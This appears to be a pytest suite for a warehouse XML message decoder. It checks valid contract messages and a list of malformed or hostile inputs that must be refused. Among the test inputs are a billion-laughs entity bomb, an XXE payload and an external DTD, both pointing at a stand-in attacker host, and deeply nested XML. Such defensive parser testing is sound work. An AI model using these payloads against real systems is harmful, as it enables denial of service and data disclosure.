"""The legacy WMS XML codec: every contract example, every kind of poison, the commands."""

import xml.etree.ElementTree as ET
from typing import get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st

from protocols.errors import WmsDecodeError
from protocols.ids import ENTITY_ID_PATTERN, MAX_QTY, SKU_PATTERN
from protocols.orders import MAX_ORDER_LINES
from protocols.wms import (
    WMS_KINDS,
    CountLine,
    DeltaLine,
    NumberedLine,
    PickLine,
    ReceiptLine,
    WmsAdjust,
    WmsCount,
    WmsHold,
    WmsKind,
    WmsMessage,
    WmsPickConfirm,
    WmsReceipt,
    WmsShipConfirm,
    parse_routing_key,
    routing_key,
)
from protocols.wms_xml import MAX_BODY_BYTES, decode_wms, encode_cancel, encode_release

EAST = "DC-EAST"

CONTRACT_EXAMPLES: list[tuple[str, bytes, WmsMessage]] = [
    (
        "DC-EAST.receipt",
        b'<Receipt txn="R-1" warehouse="DC-EAST" po="PO-9"><Line sku="SKU-1" qty="50"/></Receipt>',
        WmsReceipt(txn="R-1", warehouse=EAST, po="PO-9", lines=(ReceiptLine("SKU-1", 50),)),
    ),
    (
        "DC-EAST.adjust",
        b'<Adjust txn="A-1" warehouse="DC-EAST" reason="DAMAGED">'
        b'<Line sku="SKU-1" delta="-3"/></Adjust>',
        WmsAdjust(txn="A-1", warehouse=EAST, reason="DAMAGED", lines=(DeltaLine("SKU-1", -3),)),
    ),
    (
        "DC-EAST.hold",
        b'<Hold txn="H-1" warehouse="DC-EAST" reason="QC"><Line sku="SKU-1" delta="5"/></Hold>',
        WmsHold(txn="H-1", warehouse=EAST, reason="QC", lines=(DeltaLine("SKU-1", 5),)),
    ),
    (
        "DC-EAST.count",
        b'<Count txn="C-1" warehouse="DC-EAST"><Line sku="SKU-1" on_hand="47"/></Count>',
        WmsCount(txn="C-1", warehouse=EAST, lines=(CountLine("SKU-1", 47),)),
    ),
    (
        "DC-EAST.pick",
        b'<PickConfirm txn="P-1" warehouse="DC-EAST" order="SO-1">'
        b'<Line no="1" sku="SKU-1" requested="2" picked="1"/></PickConfirm>',
        WmsPickConfirm(
            txn="P-1", warehouse=EAST, order="SO-1", lines=(PickLine(1, "SKU-1", 2, 1),)
        ),
    ),
    (
        "DC-EAST.ship",
        b'<ShipConfirm txn="S-1" warehouse="DC-EAST" order="SO-1" carrier="UPS" tracking="1Z9">'
        b'<Line no="1" sku="SKU-1" qty="1"/></ShipConfirm>',
        WmsShipConfirm(
            txn="S-1",
            warehouse=EAST,
            order="SO-1",
            carrier="UPS",
            tracking="1Z9",
            lines=(NumberedLine(1, "SKU-1", 1),),
        ),
    ),
]


@pytest.mark.parametrize(("key", "body", "expected"), CONTRACT_EXAMPLES)
def test_every_contract_example_decodes(key: str, body: bytes, expected: WmsMessage) -> None:
    # Given a message exactly as CONTRACT 3 shows it
    # When it is decoded with its routing key
    decoded = decode_wms(key, body)
    # Then it is the typed message with every attribute
    assert decoded == expected


def test_optional_attributes_may_be_left_out() -> None:
    # Given a Receipt without po and a ShipConfirm without carrier and tracking
    receipt = b'<Receipt txn="R-2" warehouse="DC-EAST"><Line sku="SKU-1" qty="1"/></Receipt>'
    ship = message("ShipConfirm", '<Line no="2" sku="A" qty="1"/>', ' order="SO-1"')
    # When they are decoded
    # Then the optional fields are None
    assert decode_wms("DC-EAST.receipt", receipt) == WmsReceipt(
        txn="R-2", warehouse=EAST, lines=(ReceiptLine("SKU-1", 1),)
    )
    assert decode_wms("DC-EAST.ship", ship) == WmsShipConfirm(
        txn="T-1", warehouse=EAST, order="SO-1", lines=(NumberedLine(2, "A", 1),)
    )


def test_a_short_pick_of_zero_is_valid() -> None:
    # Given a pick that found nothing
    body = pick('<Line no="1" sku="A" requested="2" picked="0"/>')
    # When it is decoded
    # Then picked is 0
    assert decode_wms("DC-EAST.pick", body).lines == (PickLine(1, "A", 2, 0),)


def receipt(*lines: str, attrs: str = 'txn="R-1" warehouse="DC-EAST"') -> bytes:
    return f"<Receipt {attrs}>{''.join(lines)}</Receipt>".encode()


def message(root: str, line: str, attrs: str = "") -> bytes:
    return f'<{root} txn="T-1" warehouse="DC-EAST"{attrs}>{line}</{root}>'.encode()


def pick(line: str) -> bytes:
    return message("PickConfirm", line, ' order="SO-1"')


LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
BILLION_LAUGHS = (
    f'<?xml version="1.0"?><!DOCTYPE Receipt [<!ENTITY lol0 "lol">{LAUGHS}]>'
    '<Receipt txn="R-1" warehouse="DC-EAST"><Line sku="&lol9;" qty="1"/></Receipt>'
).encode()
EXTERNAL_ENTITY = (
    b'<!DOCTYPE Receipt [<!ENTITY xxe SYSTEM "http://attacker.invalid/secret">]>'
    b'<Receipt txn="&xxe;" warehouse="DC-EAST"><Line sku="A" qty="1"/></Receipt>'
)
EXTERNAL_DTD = (
    b'<!DOCTYPE Receipt SYSTEM "http://attacker.invalid/wms.dtd">'
    b'<Receipt txn="R-1" warehouse="DC-EAST"><Line sku="A" qty="1"/></Receipt>'
)
GOOD = '<Line sku="A" qty="1"/>'
RECEIPT = "DC-EAST.receipt"


def poison(name: str, key: str, body: bytes, reason: str) -> object:
    return pytest.param(key, body, reason, id=name)


POISON = [
    poison("billion laughs", RECEIPT, BILLION_LAUGHS, "forbidden_xml"),
    poison("external entity", RECEIPT, EXTERNAL_ENTITY, "forbidden_xml"),
    poison("external DTD", RECEIPT, EXTERNAL_DTD, "forbidden_xml"),
    poison("1 MiB + 1", RECEIPT, receipt(GOOD).ljust(MAX_BODY_BYTES + 1), "oversize"),
    poison("truncated", RECEIPT, receipt(GOOD)[:-5], "malformed_xml"),
    poison("undefined entity", RECEIPT, receipt('<Line sku="&x;" qty="1"/>'), "malformed_xml"),
    poison("empty body", RECEIPT, b"", "malformed_xml"),
    poison("not UTF-8", RECEIPT, receipt(GOOD).replace(b'"A"', b'"\xff"'), "malformed_xml"),
    poison(
        "unknown encoding",
        RECEIPT,
        b'<?xml version="1.0" encoding="x-unknown"?>' + receipt(GOOD),
        "malformed_xml",
    ),
    poison(
        "multi-byte encoding",
        RECEIPT,
        b'<?xml version="1.0" encoding="utf-7"?>' + receipt(GOOD),
        "malformed_xml",
    ),
    poison("wrong root", "DC-EAST.adjust", receipt(GOOD), "kind_mismatch"),
    poison("unknown kind", "DC-EAST.teleport", receipt(GOOD), "unknown_kind"),
    poison("outbound kind", "DC-EAST.release", receipt(GOOD), "unknown_kind"),
    poison("no dot", "nodot", receipt(GOOD), "bad_routing_key"),
    poison("lowercase warehouse", "dc-east.receipt", receipt(GOOD), "bad_routing_key"),
    poison("warehouse mismatch", "DC-WEST.receipt", receipt(GOOD), "warehouse_mismatch"),
    poison("no warehouse", RECEIPT, receipt(GOOD, attrs='txn="R-1"'), "missing_field"),
    poison("no txn", RECEIPT, receipt(GOOD, attrs='warehouse="DC-EAST"'), "missing_field"),
    poison("bad txn", RECEIPT, message("Receipt", GOOD).replace(b"T-1", b"T 1"), "bad_identifier"),
    poison("empty po", RECEIPT, message("Receipt", GOOD, ' po=""'), "bad_identifier"),
    poison("no lines", RECEIPT, receipt(), "missing_field"),
    poison(
        "deep nesting in a line",
        RECEIPT,
        receipt('<Line sku="A" qty="1">' + "<x>" * 10_000 + "</x>" * 10_000 + "</Line>"),
        "xml_too_large",
    ),
    poison("bad sku", RECEIPT, receipt('<Line sku="SKU 1" qty="1"/>'), "bad_identifier"),
    poison("sku + newline", RECEIPT, receipt('<Line sku="A&#10;" qty="1"/>'), "bad_identifier"),
    poison("no sku", RECEIPT, receipt('<Line qty="1"/>'), "missing_field"),
    poison("no qty", RECEIPT, receipt('<Line sku="A"/>'), "missing_field"),
    poison("qty=0", RECEIPT, receipt('<Line sku="A" qty="0"/>'), "bad_quantity"),
    poison("qty=abc", RECEIPT, receipt('<Line sku="A" qty="abc"/>'), "bad_quantity"),
    poison("qty=2000000", RECEIPT, receipt('<Line sku="A" qty="2000000"/>'), "bad_quantity"),
    poison("qty=1.5", RECEIPT, receipt('<Line sku="A" qty="1.5"/>'), "bad_quantity"),
    poison("qty=+1", RECEIPT, receipt('<Line sku="A" qty="+1"/>'), "bad_quantity"),
    poison("qty with a space", RECEIPT, receipt('<Line sku="A" qty=" 1"/>'), "bad_quantity"),
    poison(
        "qty in Arabic digits", RECEIPT, receipt('<Line sku="A" qty="\u0663"/>'), "bad_quantity"
    ),
    poison(
        "delta=0", "DC-EAST.adjust", message("Adjust", '<Line sku="A" delta="0"/>'), "bad_quantity"
    ),
    poison(
        "delta under -1,000,000",
        "DC-EAST.hold",
        message("Hold", '<Line sku="A" delta="-1000001"/>'),
        "bad_quantity",
    ),
    poison(
        "negative on_hand",
        "DC-EAST.count",
        message("Count", '<Line sku="A" on_hand="-1"/>'),
        "bad_quantity",
    ),
    poison(
        "picked > requested",
        "DC-EAST.pick",
        pick('<Line no="1" sku="A" requested="2" picked="3"/>'),
        "bad_quantity",
    ),
    poison(
        "requested=0",
        "DC-EAST.pick",
        pick('<Line no="1" sku="A" requested="0" picked="0"/>'),
        "bad_quantity",
    ),
    poison(
        "line no=0",
        "DC-EAST.pick",
        pick('<Line no="0" sku="A" requested="1" picked="1"/>'),
        "bad_quantity",
    ),
    poison(
        "no order",
        "DC-EAST.pick",
        message("PickConfirm", '<Line no="1" sku="A" requested="1" picked="1"/>'),
        "missing_field",
    ),
    poison(
        "unknown reason",
        "DC-EAST.adjust",
        message("Adjust", '<Line sku="A" delta="1"/>', ' reason="THEFT"'),
        "bad_reason",
    ),
    poison("duplicate sku", RECEIPT, receipt(GOOD, '<Line sku="A" qty="2"/>'), "duplicate_line"),
    poison(
        "duplicate line no",
        "DC-EAST.pick",
        pick('<Line no="1" sku="A" requested="1" picked="1"/>' * 2),
        "duplicate_line",
    ),
    poison(
        "501 lines",
        RECEIPT,
        receipt(*(f'<Line sku="S{i}" qty="1"/>' for i in range(501))),
        "too_many_lines",
    ),
]


@pytest.mark.parametrize(("key", "body", "reason"), POISON)
def test_poison_is_refused_with_its_dead_letter_reason(key: str, body: bytes, reason: str) -> None:
    # Given a poison message
    # When it is decoded
    with pytest.raises(WmsDecodeError) as refused:
        decode_wms(key, body)
    # Then the error names the reason the dead letter will carry, and a readable detail
    assert refused.value.reason == reason
    assert refused.value.detail
    assert str(refused.value).startswith(f"{reason}: ")


def test_an_error_names_the_offending_line() -> None:
    # Given a Receipt whose second line is bad
    body = receipt(GOOD, '<Line sku="B" qty="0"/>')
    # When it is decoded
    with pytest.raises(WmsDecodeError) as refused:
        decode_wms("DC-EAST.receipt", body)
    # Then the detail points at that line
    assert refused.value.detail.startswith("Line 2: ")


def test_exactly_1_mib_and_500_lines_are_accepted() -> None:
    # Given a Receipt of 500 lines padded to exactly 1 MiB (trailing whitespace is legal XML)
    body = receipt(*(f'<Line sku="S{i}" qty="1"/>' for i in range(500))).ljust(MAX_BODY_BYTES)
    # When it is decoded
    decoded = decode_wms("DC-EAST.receipt", body)
    # Then every line is there
    assert len(decoded.lines) == 500


def test_unknown_attributes_and_elements_are_tolerated() -> None:
    # Given a WMS that added an attribute and an element we do not know
    body = message("Count", '<Note/><Line sku="A" on_hand="0" bin="7"/>', ' shift="night"')
    # When it is decoded
    # Then what distgate knows is read and the rest ignored
    assert decode_wms("DC-EAST.count", body) == WmsCount(
        txn="T-1", warehouse=EAST, lines=(CountLine("A", 0),)
    )


def test_release_is_the_contract_xml() -> None:
    # Given the lines of an order for one warehouse
    lines = [NumberedLine(1, "SKU-1", 2)]
    # When the Release is encoded
    body = encode_release("T-1", EAST, "SO-1", lines)
    # Then it is byte for byte the contract's shape, and parses back
    assert body == (
        b'<Release txn="T-1" warehouse="DC-EAST" order="SO-1">'
        b'<Line no="1" sku="SKU-1" qty="2"/></Release>'
    )
    root = ET.fromstring(body)
    assert root.tag == "Release"
    assert [line.attrib for line in root] == [{"no": "1", "sku": "SKU-1", "qty": "2"}]


def test_cancel_is_the_contract_xml() -> None:
    # Given an order released to a warehouse
    # When the Cancel is encoded
    body = encode_cancel("T-2", EAST, "SO-1")
    # Then it is the contract's shape
    assert body == b'<Cancel txn="T-2" warehouse="DC-EAST" order="SO-1"/>'
    assert ET.fromstring(body).attrib == {"txn": "T-2", "warehouse": EAST, "order": "SO-1"}


def test_attributes_are_escaped() -> None:
    # Given values with XML's special characters
    odd = "a&b<c>\"d'\te\nf"
    # When they are encoded
    body = encode_release(odd, EAST, odd, [NumberedLine(1, odd, 1)])
    # Then the XML parses back to the same values
    root = ET.fromstring(body)
    assert root.attrib["txn"] == odd
    assert root.attrib["order"] == odd
    assert root[0].attrib["sku"] == odd


def test_routing_keys_round_trip() -> None:
    # Given every kind a WMS publishes
    kinds: tuple[WmsKind, ...] = get_args(WmsKind)
    # When its routing key is built and parsed
    parsed = [parse_routing_key(routing_key(EAST, kind)) for kind in kinds]
    # Then the warehouse and kind come back, and each kind has its root element
    assert parsed == [(EAST, kind) for kind in kinds]
    assert set(kinds) == set(WMS_KINDS)
    assert routing_key(EAST, "release") == "DC-EAST.release"


receipt_lines = st.lists(
    st.tuples(st.from_regex(SKU_PATTERN, fullmatch=True), st.integers(1, MAX_QTY)),
    min_size=1,
    max_size=40,
    unique_by=lambda line: line[0],
)


@given(
    txn=st.from_regex(ENTITY_ID_PATTERN, fullmatch=True),
    po=st.none() | st.from_regex(ENTITY_ID_PATTERN, fullmatch=True),
    lines=receipt_lines,
)
def test_any_valid_receipt_decodes_to_its_lines(
    txn: str, po: str | None, lines: list[tuple[str, int]]
) -> None:
    # Given a valid Receipt as a WMS would write it
    po_attr = "" if po is None else f' po="{po}"'
    xml_lines = "".join(f'<Line sku="{sku}" qty="{qty}"/>' for sku, qty in lines)
    body = f'<Receipt txn="{txn}" warehouse="DC-EAST"{po_attr}>{xml_lines}</Receipt>'.encode()
    # When it is decoded
    decoded = decode_wms("DC-EAST.receipt", body)
    # Then every line comes back in order, with the header
    assert decoded == WmsReceipt(
        txn=txn, warehouse=EAST, po=po, lines=tuple(ReceiptLine(sku, qty) for sku, qty in lines)
    )


@pytest.mark.parametrize(
    ("body", "bound"),
    [
        (b'<Receipt txn="R-1" warehouse="W1">' + b"<a>" * 100_000, "deeper than"),
        (b'<Receipt txn="R-1" warehouse="W1">' + b"<b/>" * 200_000 + b"</Receipt>", "more than"),
        (
            b'<Receipt txn="R-1" warehouse="W1">'
            + b'<Line sku="S" qty="1"/>' * 40_000
            + b"</Receipt>",
            "more than",
        ),
    ],
    ids=["100k nested", "200k siblings", "40k lines"],
)
def test_xml_past_the_depth_or_element_bound_is_refused_before_it_is_built(
    body: bytes, bound: str
) -> None:
    # Given a body under 1 MiB that nests too deep or holds too many elements
    assert len(body) <= MAX_BODY_BYTES
    # When decoded, Then it is refused as xml_too_large, naming the bound
    with pytest.raises(WmsDecodeError) as refused:
        decode_wms("W1.receipt", body)
    assert refused.value.reason == "xml_too_large"
    assert bound in refused.value.detail


def test_a_message_at_the_line_limit_still_decodes_and_just_over_says_too_many_lines() -> None:
    # Given receipts of 500 and of 501 distinct lines
    def receipt(n: int) -> bytes:
        lines = "".join(f'<Line sku="S-{i}" qty="1"/>' for i in range(n))
        return f'<Receipt txn="R-1" warehouse="W1">{lines}</Receipt>'.encode()

    # Then the first decodes and the second keeps its precise reason
    assert len(decode_wms("W1.receipt", receipt(MAX_ORDER_LINES)).lines) == MAX_ORDER_LINES
    with pytest.raises(WmsDecodeError) as refused:
        decode_wms("W1.receipt", receipt(MAX_ORDER_LINES + 1))
    assert refused.value.reason == "too_many_lines"
